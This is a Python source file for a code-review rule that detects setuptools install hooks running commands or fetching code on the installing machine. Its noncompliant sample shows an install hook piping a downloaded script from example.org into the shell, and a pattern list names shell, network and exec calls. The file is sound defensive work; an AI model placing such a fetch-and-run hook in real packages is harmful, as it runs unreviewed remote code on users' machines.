"""Programs that run while being installed."""

from __future__ import annotations

import ast
import re
from collections.abc import Iterator

from kibitz_reviewer.engines.index import Module
from kibitz_reviewer.rule import Confidence, Finding, Rule, Severity


class InstallHook(Rule):
    """Installation of the package runs commands, or fetches code, on the installing machine.

    Whoever installs it has not read it yet, and may do so with all rights; that is how stolen packages steal.

    Leave the commands to the user, or ship what they would make.
    """

    severity = Severity.MEDIUM
    confidence = Confidence.MEDIUM
    cwe = (506, 829)
    triggers = ("cmdclass", "setuptools", "distutils")
    noncompliant = (
        """
        import os
        from setuptools import setup
        from setuptools.command.install import install

        class Fetching(install):
            def run(self):
                os.system("curl https://example.org/setup.sh | sh")  # finding
                super().run()

        setup(name="shop", cmdclass={"install": Fetching})
        """,
    )
    compliant = (
        """
        from setuptools import setup
        from setuptools.command.build_py import build_py

        class Versioned(build_py):
            def run(self):
                with open("version.txt", "w", encoding="utf-8") as file:
                    file.write("1.0")
                super().run()

        setup(name="shop", cmdclass={"build_py": Versioned})
        """,
        """
        import subprocess

        class Runner:
            def run(self):
                subprocess.run(["make"], check=True)
        """,
    )

    def check(self, module: Module) -> Iterator[Finding]:
        for node in module.nodes(ast.ClassDef):
            if not any(HOOKS.search(module.qualified_name(base) or "") for base in node.bases):
                continue
            for call in (n for n in ast.walk(node) if isinstance(n, ast.Call)):
                if (module.qualified_name(call.func) or "").startswith(RUNS):
                    yield self.finding(
                        module,
                        call,
                        "This runs on the machine of whoever installs the package. Leave it out.",
                    )


HOOKS = re.compile(r"(?:setuptools|distutils)\.command\.(?:install|develop|egg_info|easy_install|sdist)\b")
RUNS = (
    "os.system",
    "os.popen",
    "subprocess.",
    "urllib.request.",
    "requests.",
    "httpx.",
    "exec",
    "eval",
    "socket.",
)
